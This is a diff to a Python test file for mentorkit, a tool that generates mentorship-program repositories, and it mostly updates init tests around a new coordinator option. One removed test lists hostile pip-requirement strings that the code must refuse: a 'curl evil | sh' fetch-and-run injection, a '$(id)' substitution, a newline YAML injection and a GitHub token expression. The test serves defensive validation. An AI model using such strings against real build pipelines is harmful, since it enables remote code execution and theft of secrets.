@@ -35,11 +35,12 @@ def test_plan_holds_everything_a_program_repository_needs() -> None:
         ".gitignore",
     ):
         assert required in files, required
-    assert len([p for p in files if p.startswith("participants/")]) == 3
-    assert (
-        "participants/octocat.yaml" in files
-        and "github: OctoCat" in files["participants/octocat.yaml"]
-    )
+    # Nobody but the coordinator, whose profile holds only what init was told.
+    assert [p for p in files if p.startswith("participants/")] == ["participants/octocat.yaml"]
+    profile = yaml.safe_load(files["participants/octocat.yaml"])
+    assert profile["github"] == "OctoCat" and profile["name"] == "OctoCat"
+    assert profile["public"] is False and "cohorts" not in profile and "mentor" not in profile
+    assert files["participants/octocat.yaml"].count("TODO") >= 5
     assert not any(
         "__" in path or "__" in text.replace("__pycache__", "") for path, text in files.items()
     )
@@ -75,11 +76,11 @@ def test_codeowners_lists_every_coordinator() -> None:
 
 def test_init_refuses_a_folder_that_is_not_empty(tmp_path: Path) -> None:
     (tmp_path / "notes.txt").write_text("mine", encoding="utf-8")
-    result = CliRunner().invoke(cli, ["init", str(tmp_path)])
+    result = CliRunner().invoke(cli, ["init", str(tmp_path), "--coordinator", "lead"])
     assert result.exit_code == 2
     assert "not empty" in result.stderr
     assert (tmp_path / "notes.txt").read_text(encoding="utf-8") == "mine"
-    forced = CliRunner().invoke(cli, ["init", str(tmp_path), "--force"])
+    forced = CliRunner().invoke(cli, ["init", str(tmp_path), "--force", "--coordinator", "lead"])
     assert forced.exit_code == 0
     assert (tmp_path / "program" / "program.yaml").is_file() and (tmp_path / "notes.txt").exists()
 
@@ -98,7 +99,9 @@ def test_init_can_start_a_git_repository(tmp_path: Path) -> None:
 @pytest.mark.slow
 def test_init_output_validates_matches_and_builds(tmp_path: Path) -> None:
     target = tmp_path / "fresh"
-    assert CliRunner().invoke(cli, ["init", str(target)]).exit_code == 0
+    done = CliRunner().invoke(cli, ["init", str(target), "--coordinator", "lead", "--example"])
+    assert done.exit_code == 0, done.output
+    assert "Demo people (--example), to delete before launch" in done.stdout
     code, out, _ = run(target, "validate")
     assert code == 0 and "no problems" in out, out
     cohort = next((target / "program" / "cohorts").glob("*.yaml")).stem
@@ -119,20 +122,3 @@ def test_init_ships_the_same_theme_override_as_this_repository() -> None:
     root = Path(__file__).resolve().parents[2]
     template = root / "mentorkit" / "templates" / "program" / "site" / "overrides" / "main.html"
     assert template.read_text() == (root / "site" / "overrides" / "main.html").read_text()
-
-
-def test_the_mentorkit_requirement_reaches_workflows_and_pre_commit() -> None:
-    requirement = "mentorkit @ git+https://git.example.org/tools/mentorkit.git@0123abc"
-    files = plan_init(InitOptions(today=TODAY, mentorkit_requirement=requirement))
-    for path in (".github/workflows/mentorkit-pr.yml", ".github/workflows/mentorkit-pages.yml"):
-        assert f'python -m pip install "{requirement}"' in files[path]
-    assert requirement in files[".pre-commit-config.yaml"]
-
-
-@pytest.mark.parametrize(
-    "hostile",
-    ['x"; curl evil | sh; "', "mentorkit $(id)", "mentorkit\nrun: x", "${{ github.token }}"],
-)
-def test_a_requirement_that_could_inject_shell_is_refused(hostile: str) -> None:
-    with pytest.raises(ValueError, match="is not a pip requirement"):
-        plan_init(InitOptions(today=TODAY, mentorkit_requirement=hostile))
